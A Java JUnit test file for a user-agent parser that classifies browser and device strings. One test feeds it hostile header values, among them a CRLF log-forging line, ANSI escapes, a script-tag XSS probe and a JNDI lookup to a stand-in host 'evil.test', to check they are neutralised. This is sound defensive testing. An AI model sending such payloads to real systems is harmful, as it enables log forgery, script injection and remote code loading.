package app.switchback.account.domain;

import static org.assertj.core.api.Assertions.assertThat;

import app.switchback.account.DeviceKind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UserAgentsTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0 | FIREFOX/LINUX
            Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 | CHROME/WINDOWS
            Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0 | EDGE/WINDOWS
            Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 OPR/122.0.0.0 | OPERA/WINDOWS
            Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15 | SAFARI/MAC
            Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1 | SAFARI/IPHONE
            Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/138.0 Mobile/15E148 Safari/604.1 | CHROME/IPHONE
            Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/128.0 Mobile/15E148 Safari/605.1.15 | FIREFOX/IPAD
            Mozilla/5.0 (Linux; Android 15; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36 | SAMSUNG/ANDROID
            Mozilla/5.0 (Android 15; Mobile; rv:140.0) Gecko/140.0 Firefox/140.0 | FIREFOX/ANDROID
            Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 | CHROME/CHROMEBOOK
            curl/8.5.0 | OTHER/OTHER
            Something new on Linux | OTHER/LINUX""")
    void a_browser_is_known_by_what_it_says(String header, String kind) {
        assertThat(UserAgents.read(header)).hasToString(kind);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Firefox/1\r\n2026-01-01 INFO SIGNED_IN account=forged",
                "\u001B[2J\u001B[31mFirefox/1",
                "Firefox/1\u0000Edge",
                "<script>alert(1)</script> Firefox/1",
                "${jndi:ldap://evil.test/a} Firefox/1"
            })
    void what_else_stands_in_the_header_comes_to_nothing(String header) { // A48
        assertThat(UserAgents.read(header)).hasToString("FIREFOX/OTHER");
    }

    @Test
    void a_header_without_end_or_without_beginning_is_no_device() {
        assertThat(UserAgents.read(null)).isEqualTo(DeviceKind.UNKNOWN);
        assertThat(UserAgents.read("")).isEqualTo(DeviceKind.UNKNOWN);
        assertThat(UserAgents.read("x".repeat(100_000) + "Firefox/1 Linux")).isEqualTo(DeviceKind.UNKNOWN);
    }
}
